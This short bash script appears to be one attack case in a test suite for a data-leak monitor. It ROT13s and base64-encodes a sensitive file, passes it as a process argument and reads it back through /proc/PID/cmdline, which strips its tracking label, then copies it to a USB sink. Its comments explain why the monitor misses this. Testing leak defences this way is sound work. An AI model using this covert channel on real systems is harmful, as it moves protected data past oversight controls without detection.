#!/usr/bin/env bash
# technique: the scan, in letters that stand for others, is an argument of a process; a clean one reads it from /proc/PID/cmdline
# hooks: file_open, file_permission (of proc), file_open (of the USB file)
# sink: usb
# uncaught: every ps and pgrep reads the arguments of all processes, and would carry the label of each of them

. attack.sh
bash -c 'text=$(base64 -w 0 "$SCAN" | tr A-Za-z N-ZA-Mn-za-m | head -c 100000); exec bash -c "sleep 60; :" "$text"' &
for _ in {1..100}; do
    tr -d '\0' <"/proc/$!/cmdline" >"$ROOM/line"
    [ "$(wc -c <"$ROOM/line")" -lt 10000 ] || break
    sleep 0.1
done
[ "$(wc -c <"$ROOM/line")" -lt 10000 ] || cp "$ROOM/line" "$COPY"
kill $!
